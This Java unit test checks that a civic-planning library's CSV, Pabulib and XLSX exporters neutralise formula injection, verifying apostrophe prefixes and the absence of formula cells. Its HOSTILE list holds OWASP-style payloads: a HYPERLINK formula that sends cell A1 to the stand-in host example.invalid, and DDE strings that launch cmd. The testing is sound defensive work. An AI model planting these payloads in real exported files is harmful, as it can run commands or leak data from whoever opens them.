// SPDX-License-Identifier: Apache-2.0
package org.civicplan.spreadsheets;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.civicplan.base.LocalizedText;
import org.civicplan.governance.Organisation;
import org.civicplan.indicator.Indicator;
import org.civicplan.indicator.Measurement;
import org.civicplan.io.Csv;
import org.civicplan.monitoring.MonitoringReport;
import org.civicplan.monitoring.MonitoringReporter;
import org.civicplan.monitoring.ReportRendering;
import org.civicplan.participation.Pabulib;
import org.civicplan.participation.PbInstance;
import org.civicplan.report.PriorityList;
import org.civicplan.strategy.Action;
import org.civicplan.strategy.BudgetLine;
import org.civicplan.strategy.FundingSource;
import org.civicplan.strategy.Strategy;
import org.junit.jupiter.api.Test;

/**
 * CSV injection: every CSV and XLSX writer of the library, given texts that start a formula, writes
 * them so that no spreadsheet reads a formula: an apostrophe in front, and in XLSX never a formula
 * cell. The writers: {@link Csv#format} (through the monitoring report's CSV), {@link Pabulib#write},
 * and {@link Xlsx#write} of each of the four workbooks.
 */
class InjectionTest {

  /** One hostile text for each formula start of OWASP "CSV Injection". */
  static final List<String> HOSTILE = List.of(
      "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

  /** The climate sample with hostile texts in action titles, names, units, sources and programmes. */
  static Strategy hostile(Strategy s) {
    List<Action> actions = new ArrayList<>();
    int n = 0;
    for (Action a : s.actions()) {
      String text = HOSTILE.get(n++ % HOSTILE.size());
      Action.Builder b = a.toBuilder().title(LocalizedText.of(text, text));
      List<BudgetLine> lines = new ArrayList<>();
      for (BudgetLine l : a.budget()) {
        lines.add(new BudgetLine(l.year(), l.planned(), l.actual(), FundingSource.of(l.source().kind(), HOSTILE.get(2))));
      }
      actions.add(b.budget(lines).build());
    }
    List<Organisation> organisations = s.organisations().stream()
        .map(o -> new Organisation(o.id(), LocalizedText.of(HOSTILE.get(1), HOSTILE.get(1)), o.category())).toList();
    List<Indicator> indicators = s.indicators().stream().map(i -> i.toBuilder()
        .name(LocalizedText.of(HOSTILE.get(3), HOSTILE.get(3))).unit(HOSTILE.get(4))
        .measurements(i.measurements().stream()
            .map(m -> new Measurement(m.date(), m.value(), Optional.of(HOSTILE.get(5)), m.note())).toList())
        .build()).toList();
    return s.toBuilder().actions(actions).organisations(organisations).indicators(indicators).build();
  }

  /** A field or cell text a spreadsheet would read as a formula. */
  static boolean formula(String text) {
    return !text.isEmpty() && "=+-@\t\r".indexOf(text.charAt(0)) >= 0 && !text.matches("[+-]?[0-9]+([.,][0-9]+)?");
  }

  @Test
  void monitoringReportCsv() {
    Strategy s = hostile(Samples.climate());
    MonitoringReport report = MonitoringReporter.of(Samples.TEMPLATES).report(s, LocalDate.of(2026, 6, 30));
    for (Locale locale : List.of(Locale.ENGLISH, Locale.forLanguageTag("ro"))) {
      String csv = ReportRendering.csv(report, locale);
      List<String> fields = Csv.parse(csv).rows().stream().flatMap(r -> r.fields().stream()).toList();
      assertTrue(fields.contains("'" + HOSTILE.get(0)), "a hostile title is written, neutralised");
      assertEquals(List.of(), fields.stream().filter(InjectionTest::formula).toList());
    }
  }

  @Test
  void pabulib() throws IOException {
    String sample = Files.readString(Path.of("..", "samples", "data", "pb-exemplu-2026.pb"), StandardCharsets.UTF_8);
    String edited = sample.replace("Parc de buzunar Strada Florilor", "\"=HYPERLINK(\"\"http://example.invalid\"\")\"")
        .replace("Municipiul Exemplu (illustrative)", "@SUM(1+9)");
    PbInstance instance = Pabulib.read(edited).instance().orElseThrow();
    String written = Pabulib.write(instance);
    List<String> fields = Csv.parse(written, ';').rows().stream().flatMap(r -> r.fields().stream()).toList();
    assertTrue(fields.contains("'=HYPERLINK(\"http://example.invalid\")"), written);
    assertTrue(fields.contains("'@SUM(1+9)"), written);
    assertEquals(List.of(), fields.stream().filter(InjectionTest::formula).toList());
    // Reading gives the texts back.
    assertEquals(instance, Pabulib.read(written).instance().orElseThrow());
  }

  @Test
  void everyWorkbook() throws IOException {
    Strategy s = hostile(Samples.climate());
    MonitoringReport report = MonitoringReporter.of(Samples.TEMPLATES).report(s, LocalDate.of(2026, 6, 30));
    Strategy ranked = hostile(Samples.read("climate-priorities.json"));
    PriorityList list = PriorityList.of(ranked, ranked.prioritisations().get(0));
    for (Locale locale : List.of(Locale.ENGLISH, Locale.forLanguageTag("ro"))) {
      List<Spreadsheet> books = List.of(SpreadsheetExport.actionPlan(s, locale),
          SpreadsheetExport.indicators(s, Optional.of(report), locale), SpreadsheetExport.report(report, locale),
          SpreadsheetExport.priorities(list, locale));
      for (Spreadsheet book : books) {
        byte[] xlsx = Samples.xlsx(book);
        List<String> texts = new ArrayList<>();
        StringBuilder sheetsXml = new StringBuilder();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(xlsx))) {
          for (ZipEntry e = zip.getNextEntry(); e != null; e = zip.getNextEntry()) {
            String xml = new String(zip.readAllBytes(), StandardCharsets.UTF_8);
            if (e.getName().startsWith("xl/worksheets/")) {
              sheetsXml.append(xml);
            }
            if (e.getName().equals("xl/sharedStrings.xml") || e.getName().startsWith("xl/worksheets/")) {
              Matcher m = Pattern.compile("<t[^>]*>([^<]*)</t>").matcher(xml);
              while (m.find()) {
                texts.add(unescape(m.group(1)));
              }
            }
          }
        }
        String name = book.tables().get(0).name().get(Locale.ENGLISH) + " " + locale;
        assertFalse(sheetsXml.toString().contains("<f>") || sheetsXml.toString().contains("<f "), name + ": no formula cell");
        assertTrue(texts.stream().anyMatch(t -> HOSTILE.stream().anyMatch(h -> t.equals("'" + h))),
            name + ": hostile texts are written, neutralised: " + texts);
        assertEquals(List.of(), texts.stream().filter(InjectionTest::formula).toList(), name);
        // Reading the workbook back gives the texts as they were.
        assertEquals(book.sheets(), SpreadsheetImport.read(xlsx, "b.xlsx").sheets(), name);
      }
    }
  }

  static String unescape(String xml) {
    String s = xml.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&apos;", "'");
    Matcher m = Pattern.compile("&#(x?)([0-9A-Fa-f]+);").matcher(s);
    StringBuilder b = new StringBuilder();
    while (m.find()) {
      m.appendReplacement(b, Matcher.quoteReplacement(
          String.valueOf((char) Integer.parseInt(m.group(2), m.group(1).isEmpty() ? 10 : 16))));
    }
    m.appendTail(b);
    return b.toString().replace("&amp;", "&");
  }
}
